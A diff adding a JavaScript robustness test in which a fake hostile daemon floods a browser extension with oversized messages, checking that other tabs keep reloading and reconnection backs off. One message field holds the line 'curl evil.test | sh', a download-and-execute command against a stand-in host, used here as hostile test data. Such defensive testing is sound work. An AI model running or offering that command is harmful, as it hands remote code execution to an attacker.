@@ -236,6 +236,50 @@ test('a hostile daemon elsewhere learns only about tabs that the daemon here doe
 	assert.deepEqual([...new Set(watched())], [urls[1]]);
 });
 
+test('a hostile daemon elsewhere that sends without end does not keep other tabs waiting', { skip: missing('chromium') }, async t => {
+	const here = await World.open(t);
+	await here.startDaemon();
+	const hostile = new FakeDaemon();
+	const port = await freePort();
+	await hostile.listen(port);
+	t.after(() => hostile.close());
+	const own = await here.site('here', { 'index.html': '<h1>own</h1>' });
+	const other = await here.site('other', { 'index.html': '<h1>other</h1>' });
+	const browser = await here.browser('chromium', { hosts: HOSTS });
+	await configure(browser, { id: 'h', name: 'hostile', port });
+	const page = await browser.newPage(`http://nowhere.test:${other.port}/`);
+	await page.clickAction();
+	await shows(browser, page, /live: potato on hostile/);
+	const { tab } = await browser.activeIcon();
+	const local = await browser.newPage(own.url);
+	await local.clickAction();
+	await shows(browser, local, /live: here/);
+
+	const message = { type: 'tab', tab, state: 'live', project: 'potato', reason: 'x'.repeat(100000), advice: 'curl evil.test | sh' };
+	let over = false, sent = 0;
+	const flooding = (async () => {
+		while (!over) {
+			for (let i = 0; i < 20; i++, sent++) {
+				hostile.send(message);
+			}
+			await hostile.drained();
+		}
+	})();
+	const hellos = () => hostile.heard.all.filter(({ event }) => event.type === 'hello').length;
+	await until('it to be disconnected', () => hellos() > 1 || hostile.count === 0);
+	for (let i = 0; i < (LONG ? 20 : 2); i++) {
+		const began = performance.now();
+		await save(here, own, `save ${i}`);
+		await local.activate();
+		await until('the reload', async () => await heading(local) === `save ${i}`);
+		assert.ok(performance.now() - began < 10000, `${performance.now() - began} ms`);
+	}
+	// It is tried again at increasing intervals, not at once.
+	assert.ok(hellos() < 10, `${hellos()} connections, ${sent} messages`);
+	over = true;
+	await flooding;
+});
+
 test('3 daemons with 20 tabs each', { skip: missing('chromium') || (!LONG && 'with --long') }, async t => {
 	const worlds = [await World.open(t), await World.open(t), await World.open(t)];
 	await Promise.all(worlds.map((world) => world.startDaemon()));
